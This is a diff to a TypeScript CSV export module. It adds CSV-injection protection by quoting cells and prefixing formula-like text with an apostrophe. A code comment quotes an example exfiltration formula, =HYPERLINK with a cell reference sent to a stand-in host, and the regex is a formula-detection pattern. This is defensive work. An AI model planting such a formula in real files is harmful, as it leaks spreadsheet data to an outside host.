@@ -1,14 +1,35 @@
 // Rows as CSV, for panels who read reports in a spreadsheet. Nested values are
 // flattened: objects to dotted columns, arrays of scalars joined with "; ".
+//
+// Every cell goes through csvField: quoted, and neutralised when it is text a spreadsheet
+// would run as a formula (CSV injection: a title of `=HYPERLINK("http://x/?"&B2,"open")`
+// typed by one organisation must not become a live link or a command in a panel member's
+// spreadsheet). As OWASP advises, text starting with = + - @, a tab or a carriage return
+// gets a leading apostrophe, which spreadsheets show as text and do not display. Numbers are
+// numbers, never formulas: a negative figure (-12) stays -12; the same characters typed as
+// text become '-12.
 
-import { stringify } from 'csv-stringify/sync';
+export type CsvScalar = string | number | boolean | null | undefined;
 
-type Scalar = string | number | boolean | null;
+/** The characters a spreadsheet reads as the start of a formula (and their full-width forms, which some read too). */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 
-function flatten(value: unknown, prefix: string, into: Record<string, Scalar>): void {
+/** One cell: always quoted, quotes doubled, formula-like text neutralised. */
+export function csvField(value: CsvScalar): string {
+  let text = value === null || value === undefined ? '' : String(value);
+  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
+  return `"${text.replaceAll('"', '""')}"`;
+}
+
+/** One line of cells, ended with a newline: what a streaming writer sends per row. */
+export function csvLine(values: readonly CsvScalar[]): string {
+  return `${values.map(csvField).join(',')}\n`;
+}
+
+function flatten(value: unknown, prefix: string, into: Record<string, CsvScalar>): void {
   if (value === undefined) return;
   if (value === null || typeof value !== 'object') {
-    into[prefix] = value as Scalar;
+    into[prefix] = value as CsvScalar;
     return;
   }
   if (Array.isArray(value)) {
@@ -18,13 +39,17 @@ function flatten(value: unknown, prefix: string, into: Record<string, Scalar>): 
   for (const [key, inner] of Object.entries(value)) flatten(inner, prefix ? `${prefix}.${key}` : key, into);
 }
 
+/** A row's cells by dotted column name. */
+export function flattenRow(row: Record<string, unknown>): Record<string, CsvScalar> {
+  const into: Record<string, CsvScalar> = {};
+  flatten(row, '', into);
+  return into;
+}
+
 export function toCsv(rows: readonly Record<string, unknown>[]): string {
-  const flat = rows.map((row) => {
-    const into: Record<string, Scalar> = {};
-    flatten(row, '', into);
-    return into;
-  });
+  const flat = rows.map(flattenRow);
   // Columns in order of first appearance, so sparse rows still line up.
   const columns = [...new Set(flat.flatMap((row) => Object.keys(row)))];
-  return stringify(flat, { header: true, columns, cast: { boolean: (b) => (b ? 'true' : 'false') } });
+  if (columns.length === 0) return '';
+  return csvLine(columns) + flat.map((row) => csvLine(columns.map((column) => row[column]))).join('');
 }
